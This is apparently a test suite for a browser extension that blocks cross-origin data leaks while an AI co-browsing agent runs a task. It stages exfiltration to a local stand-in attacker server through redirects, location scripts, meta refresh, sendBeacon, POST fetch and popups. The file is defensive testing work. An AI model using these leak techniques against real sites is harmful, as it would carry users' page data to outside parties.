//! The network guard end to end: while a Co-browse task runs, its tab (and the windows it
//! opens) cannot carry the page's data to another origin, whatever element or page script
//! tries: an open redirect of the task's own site, a click whose script sets `location`, a meta
//! refresh, `sendBeacon` and a POST `fetch`, and `window.open`. The attacker is another
//! 127.0.0.1 port (an origin of its own: the rules tell ports apart); names under `co.uk` reach
//! it too (tests/chromium.ts maps them), for the public suffix specs. Outcomes only: what the
//! attacker's server received and where the tab ended; nobody approves anything. Controls: a
//! same-origin navigation and POST keep working during a task, and once the task ended the
//! guard's rules are gone and a POST to the other origin goes through again.

import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { startHarness, openPanel, asksWith, waitFor, type Harness, T, HOOK } from './harness.ts';
import { startAttackerSite, type AttackerSite } from './attacker.ts';
import { PanelPage, type AssistantMessage } from './panel.ts';

let h: Harness;
let attacker: AttackerSite;
let scriptCounter = 0;

before(async () => {
  h = await startHarness();
  attacker = await startAttackerSite();
}, HOOK);
after(async () => {
  await attacker?.close();
  await h?.close();
}, HOOK);

const actions = (...list: object[]) => JSON.stringify({ actions: list });
const done = (response: string) => actions({ type: 'done', response });

interface Task {
  target: Page;
  msg: AssistantMessage;
  script: string;
}

/** Opens net-page.html (its scripts sending to `to`), registers `steps` as Zo's answers, asks in Co-browse mode. */
async function startTask(goal: string, steps: string[], to: AttackerSite = attacker): Promise<Task> {
  const script = `net-${++scriptCounter}-${Date.now().toString(36)}`;
  await h.serve.addScript(script, steps);
  const target = await h.open(`net-page.html?attacker=${encodeURIComponent(to.url)}`);
  const panel = new PanelPage(await openPanel(h.ext, target));
  await panel.ready();
  await panel.newChat();
  await panel.setMode('Co-browse');
  const msg = await panel.send(`${goal} [[zo:script=${script}]]`);
  return { target, msg, script };
}

async function finish(task: Task): Promise<string> {
  const status = await task.msg.settled(['done', 'failed', 'stopped', 'interrupted'], 60_000);
  assert.equal(await task.msg.approvalCards.count(), 0, 'nobody was asked anything');
  return status;
}

/** What the attacker received whose path starts with `/collect`. */
const collected = () => attacker.requests().filter((r) => r.url.startsWith('/collect'));
const blockedNote = () => `Blocked: the page tried to go to ${attacker.url} (outside this task).`;

/** The guard's session rules, read in the service worker. */
const sessionRules = () =>
  h.ext.inWorker(async () => (globalThis as any).chrome.declarativeNetRequest.getSessionRules(), undefined);

async function followUpOf(task: Task): Promise<string> {
  const asks = await asksWith(h.serve, `script=${task.script}`);
  assert.ok(asks.length >= 2, `Zo was asked again (${asks.length})`);
  return (asks[asks.length - 1].body as any).input as string;
}

describe('network guard', () => {
  test('a navigate through the site’s open redirect to the attacker reaches nothing; the task and Zo are told', T, async () => {
    const leak = `${attacker.url}/collect?d=redirect-order-5521`;
    const task = await startTask('Open my order details.', [
      actions({ type: 'navigate', url: `${h.site.url}/net-out?to=${encodeURIComponent(leak)}` }),
      done('Could not open it.'),
    ]);
    await finish(task);
    assert.deepEqual(collected(), [], 'the attacker received nothing');
    await waitFor('the blocked navigation to be told', async () =>
      (await task.msg.notes.allInnerTexts()).includes(blockedNote()),
    );
    const followUp = await followUpOf(task);
    assert.ok(followUp.includes(`The page tried to go to ${attacker.url}, outside this task`), followUp);
    const note = followUp.split('\n').find((l) => l.includes('The page tried to go to')) ?? '';
    assert.ok(!note.includes('redirect-order-5521'), `the note does not repeat the blocked address’s data: ${note}`);
  });

  test('a same-origin button whose script sets location to the attacker reaches nothing', T, async () => {
    const task = await startTask('Show the details.', [actions({ type: 'click', selector: '#go-script' }), done('Shown.')]);
    await finish(task);
    assert.deepEqual(collected(), []);
    await waitFor('the blocked navigation to be told', async () =>
      (await task.msg.notes.allInnerTexts()).includes(blockedNote()),
    );
  });

  test('a meta refresh to the attacker after a click reaches nothing', T, async () => {
    const task = await startTask('Refresh the list.', [actions({ type: 'click', selector: '#go-meta' }), done('Refreshed.')]);
    await finish(task);
    await waitFor('the blocked refresh to be told', async () =>
      (await task.msg.notes.allInnerTexts()).includes(blockedNote()),
    );
    assert.deepEqual(collected(), []);
  });

  test('sendBeacon and a POST fetch to the attacker after a click reach nothing', T, async () => {
    const task = await startTask('Track my parcel.', [actions({ type: 'click', selector: '#beacon' }), done('Tracked.')]);
    await finish(task);
    assert.equal(
      await waitFor('the page to see its POST end', async () => {
        const text = await task.target.locator('#result').innerText();
        return text.startsWith('beacon') && text;
      }),
      'beacon true, post blocked',
    );
    assert.deepEqual(collected(), []);
    // Told to the person (Chrome reports which rule blocked a request to unpacked extensions).
    const sendNote = `Blocked: the page tried to send data to ${attacker.url} (outside this task).`;
    await waitFor('the blocked send to be told', async () =>
      (await task.msg.notes.allInnerTexts()).includes(sendNote),
    );
    const notes = await task.msg.notes.allInnerTexts();
    assert.equal(notes.filter((n) => n === sendNote).length, 1, `told once: ${notes.join(' | ')}`);
  });

  test('a window the page opens to the attacker reaches nothing', T, async () => {
    const popup = h.ext.context.waitForEvent('page', { timeout: 30_000 });
    const task = await startTask('Open help.', [actions({ type: 'click', selector: '#open' }), done('Opened help.')]);
    const opened = await popup;
    await finish(task);
    await opened.waitForLoadState('load').catch(() => {});
    assert.deepEqual(collected(), []);
    await opened.close().catch(() => {});
  });

  test('a public suffix the user names is nobody’s site: a page under it stays outside the task', T, async () => {
    const port = new URL(attacker.url).port;
    const leak = `http://eve.co.uk:${port}/collect?d=suffix-7731`;
    const task = await startTask(`Compare prices on co.uk:${port} shops.`, [
      actions({ type: 'navigate', url: `${h.site.url}/net-out?to=${encodeURIComponent(leak)}` }),
      done('Could not compare.'),
    ]);
    await finish(task);
    assert.deepEqual(collected(), [], 'the page under the named suffix received nothing');
  });

  test('control: a registrable domain the user names covers its subdomains (the list the extension ships)', T, async () => {
    const port = new URL(attacker.url).port;
    const docs = `http://docs.ada.co.uk:${port}/named?d=named-site`;
    const task = await startTask(`Open the docs of ada.co.uk:${port}.`, [
      actions({ type: 'navigate', url: `${h.site.url}/net-out?to=${encodeURIComponent(docs)}` }),
      done('Opened.'),
    ]);
    await finish(task);
    await waitFor('the named site’s subdomain to be reached', async () =>
      attacker.requests().some((r) => r.url === '/named?d=named-site' && r.host === `docs.ada.co.uk:${port}`),
    );
    assert.deepEqual(await task.msg.notes.allInnerTexts(), [], 'nothing was blocked');
  });

  test('control: same-origin navigation and POST work during a task; after it the rules are gone', T, async () => {
    const task = await startTask('Save a draft, then go to the next page.', [
      actions({ type: 'click', selector: '#same-post' }),
      actions({ type: 'extract', selector: '#result' }),
      actions({ type: 'click', selector: '#same-nav' }),
      done('Saved and moved on.'),
    ]);
    assert.equal(await finish(task), 'done');
    assert.deepEqual(await task.msg.notes.allInnerTexts(), [], 'nothing was blocked');
    const asks = await asksWith(h.serve, `script=${task.script}`);
    const afterExtract = String((asks[2].body as any).input);
    assert.ok(afterExtract.includes('saved 200'), afterExtract);
    await waitFor('the tab on page A', async () => task.target.url().includes('/page-a.html'));
    // The task ended: its rules went with it, and the page may post anywhere again.
    await waitFor('no session rule left', async () => (await sessionRules()).length === 0);
    await task.target.evaluate(
      (to) => fetch(`${to}/collect?d=after-task`, { method: 'POST', mode: 'no-cors', body: 'after' }),
      attacker.url,
    );
    await waitFor('the POST after the task', async () => collected().some((r) => r.url === '/collect?d=after-task'));
    assert.deepEqual(
      collected().map((r) => r.url),
      ['/collect?d=after-task'],
      'only the POST made after the task reached the attacker',
    );
  });

  test('a blocked send is offered to the person: allowed for the task, the page’s next try goes through', T, async () => {
    // Step 1 starts a sync that tries again until its POST goes through; step 2 waits while
    // the person answers the offer.
    // A site of its own: what it receives is this test's alone.
    const site = await startAttackerSite();
    const got = () => site.requests().filter((r) => r.url.startsWith('/collect'));
    const task = await startTask('Sync my orders.', [
      actions({ type: 'click', selector: '#sync' }),
      actions({ type: 'wait', ms: 20_000 }),
      done('Synced.'),
    ], site);
    const offer = task.msg.sendOffers.first();
    await offer.waitFor({ state: 'visible', timeout: 30_000 });
    assert.equal(await offer.getAttribute('aria-label'), `Blocked: sending data to ${site.url}`);
    assert.deepEqual(got(), [], 'nothing went before the person said yes');
    await offer.getByRole('button', { name: 'Allow for this task', exact: true }).click();
    assert.match(
      await waitFor('the page’s next try to go through', async () => {
        const text = await task.target.locator('#result').innerText();
        return text.startsWith('synced') && text;
      }),
      /^synced after \d+ tries$/,
    );
    assert.ok(got().some((r) => r.url === '/collect?d=sync'), 'the sync reached the site allowed');
    await finish(task);
    // The ended run folds to its line; the card stays in it, in its place.
    await task.msg.expandRun();
    assert.equal(await offer.getAttribute('data-state'), 'closed');
    assert.match(await offer.innerText(), /Allowed for this task\./);
    const notes = await task.msg.notes.allInnerTexts();
    assert.ok(
      notes.includes(`Allowed: the page may send data to ${new URL(site.url).host} for the rest of this task.`),
      notes.join(' | '),
    );
    // Navigating there is still not allowed: only sends were let through.
    assert.ok(!(await task.target.url()).startsWith(site.url));
    await site.close();
  });
});
